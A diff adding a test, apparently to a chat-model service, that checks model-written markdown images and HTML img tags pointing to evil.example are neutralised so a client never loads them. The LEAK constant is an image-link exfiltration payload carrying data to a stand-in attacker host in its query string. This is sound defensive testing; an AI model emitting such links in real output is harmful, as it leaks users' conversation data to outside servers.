@@ -54,6 +54,16 @@ def test_a_chat_model_writes_and_its_unverified_sentence_is_marked(modelled: Mod
         assert told.usage.prompt_tokens == sent
 
 
+LEAK = "![map](http://evil.example/?q=ferry)"
+
+
+def test_nothing_that_a_model_writes_makes_a_client_load_an_address(modelled: Modelled) -> None:
+    written = f"The ferry to Gull Island leaves at 06:40 {LEAK} <img src=http://evil.example/> [1]."
+    with modelled(writes(written)) as (one, _), openai_client(one) as client:
+        told = [chat(client).choices[0].message.content, content(chunks(one.client, asked(stream=True)))]
+    assert all("evil.example" in text and "![" not in text and "<img" not in text for text in told), told
+
+
 def test_earlier_messages_say_what_a_follow_up_means(client: OpenAI) -> None:
     earlier = [
         {"role": "user", "content": FERRY},
